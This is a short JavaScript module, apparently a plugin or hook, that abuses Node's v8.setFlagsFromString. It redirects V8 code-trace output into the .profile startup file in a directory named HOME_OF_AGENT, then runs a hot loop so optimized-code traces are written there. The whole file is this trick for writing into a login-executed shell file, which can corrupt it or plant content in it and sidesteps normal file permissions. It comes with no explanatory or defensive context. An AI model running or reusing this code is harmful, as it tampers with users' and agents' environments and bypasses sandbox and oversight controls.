import { createRequire } from 'node:module';

export default (ctx) => {
  const v8 = createRequire('/')('v8');
  v8.setFlagsFromString(`--redirect-code-traces-to=${ctx.env.HOME_OF_AGENT}/.profile`);
  v8.setFlagsFromString('--redirect-code-traces --print-opt-code');
  for (let n = 0; n < 1_000_000; n++) Math.hypot(n, 1);
};
